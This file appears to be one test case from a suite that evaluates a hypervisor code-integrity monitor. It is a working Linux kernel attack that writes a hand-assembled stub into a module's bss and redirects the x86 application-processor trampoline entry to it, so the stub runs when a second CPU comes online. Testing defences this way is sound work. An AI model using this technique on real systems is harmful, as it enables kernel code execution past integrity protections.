// Row 18. Where the AP trampoline jumps to, data in low memory, made to lead to a module's bss; the second CPU brought online.
// Source: Linux, arch/x86/realmode/rm/trampoline_64.S (trampoline_header).
// Ends: natively succeeded; beneath SecVisor triple-fault, unapproved-code: the second CPU has no interrupt table yet.
#include "common/attack.h"
#include <string.h>

ATTACK("start-trampoline-entry")
{
	u64 header = kread64(symbol("real_mode_header")), page = prepare_start(), at, seen_at = direct(SEEN);
	u64 code = operate(VULNERABLE_BSS, 0, 0, 0);
	// movabs rax, seen_at; mov word [rax], MARK; cli; hlt; jmp to the hlt
	u8 bytes[] = { 0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0x66, 0xc7, 0x00, 0x37, 0x13, 0xfa, 0xf4, 0xeb, 0xfd };

	if (set_online(1, 0))
		failed("the second CPU stays online");
	memcpy(bytes + 2, &seen_at, 8);
	kwrite(code, bytes, sizeof(bytes));
	make_executable(code);
	// struct real_mode_header: its fourth field leads to struct trampoline_header, which begins with the entry.
	at = direct(kread64(header + 8) >> 32);
	if (kread64(at) >> 32 != 0xffffffff)
		failed("the entry is %#llx", (unsigned long long)kread64(at));
	poke_bytes(at, &code, 8);
	about_to("bring the second CPU online");
	set_online(1, 1);
	if (seen(page))
		succeeded("the second CPU ran code in a module's bss");
	refused("the second CPU did not run code in a module's bss");
}
